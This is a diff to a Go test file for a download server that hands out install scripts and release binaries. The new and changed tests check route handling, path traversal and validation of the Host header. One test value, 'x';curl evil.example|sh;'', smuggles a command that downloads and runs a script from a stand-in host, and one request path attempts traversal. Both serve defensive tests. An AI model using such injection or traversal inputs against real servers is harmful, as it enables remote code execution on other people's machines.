@@ -3,6 +3,7 @@
 package downloads_test
 
 import (
+	"context"
 	"crypto/sha256"
 	"encoding/hex"
 	"fmt"
@@ -31,8 +32,8 @@ func serve(t *testing.T, opts downloads.Options) (url, dir string) {
 	sum := sha256.Sum256(program)
 	write(t, filepath.Join(dir, name), string(program))
 	write(t, filepath.Join(dir, "checksums.txt"), hex.EncodeToString(sum[:])+"  "+name+"\n")
-	opts.Log = slog.New(slog.NewTextHandler(t.Output(), nil))
-	s, err := downloads.New(dir, opts)
+	opts.Dir, opts.Log = dir, slog.New(slog.NewTextHandler(t.Output(), nil))
+	s, err := downloads.New(ready, opts)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -46,6 +47,8 @@ func serve(t *testing.T, opts downloads.Options) (url, dir string) {
 	return srv.URL, dir
 }
 
+func ready(context.Context) error { return nil }
+
 func write(t *testing.T, path, text string) {
 	t.Helper()
 	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
@@ -58,13 +61,14 @@ func TestRoutes(t *testing.T) {
 	write(t, filepath.Join(dir, "pierre.db"), "secret")
 	write(t, filepath.Join(filepath.Dir(dir), "outside"), "secret")
 	for path, want := range map[string]int{
-		"/install.sh":                             http.StatusOK,
-		"/install.ps1":                            http.StatusOK,
-		"/download/checksums.txt":                 http.StatusOK,
-		"/download/mcp-client_windows_arm64.exe":  http.StatusNotFound, // not in the folder
-		"/download/pierre.db":                     http.StatusNotFound, // not of a release
-		"/download/..%2foutside":                  http.StatusNotFound,
-		"/download/":                              http.StatusNotFound,
+		"/install.sh":                            http.StatusOK,
+		"/install.ps1":                           http.StatusOK,
+		"/download/checksums.txt":                http.StatusOK,
+		"/download/mcp-client_windows_arm64.exe": http.StatusNotFound, // not in the folder
+		"/download/pierre.db":                    http.StatusNotFound, // not of a release
+		"/download/..%2foutside":                 http.StatusNotFound,
+		"/download/":                             http.StatusOK,
+		"/":                                      http.StatusOK,
 		"/download/mcp-client_linux_amd64.sha256": http.StatusNotFound,
 	} {
 		resp, err := client().Get(url + path)
@@ -91,10 +95,14 @@ func TestInstallersNameTheirServer(t *testing.T) {
 		"behind a proxy": {host: "pierre.example.com", proto: "https", want: "https://pierre.example.com", status: 200},
 		"as configured":  {opts: downloads.Options{PublicURL: "https://fit.example.com"}, host: "10.0.0.7:8081", want: "https://fit.example.com", status: 200},
 		"hostile host":   {host: "x';curl evil.example|sh;'", status: 422},
+		"host with path": {host: "evil.example/x", status: 422},
+		"host with user": {host: "a@evil.example", status: 422},
+		"no host":        {host: "", status: 422},
+		"IPv6":           {host: "[2001:db8::1]:8081", want: "http://[2001:db8::1]:8081", status: 200},
 	} {
 		t.Run(name, func(t *testing.T) {
-			tc.opts.Log = slog.New(slog.NewTextHandler(t.Output(), nil))
-			s, err := downloads.New(t.TempDir(), tc.opts)
+			tc.opts.Dir = t.TempDir()
+			s, err := downloads.New(ready, tc.opts)
 			if err != nil {
 				t.Fatal(err)
 			}
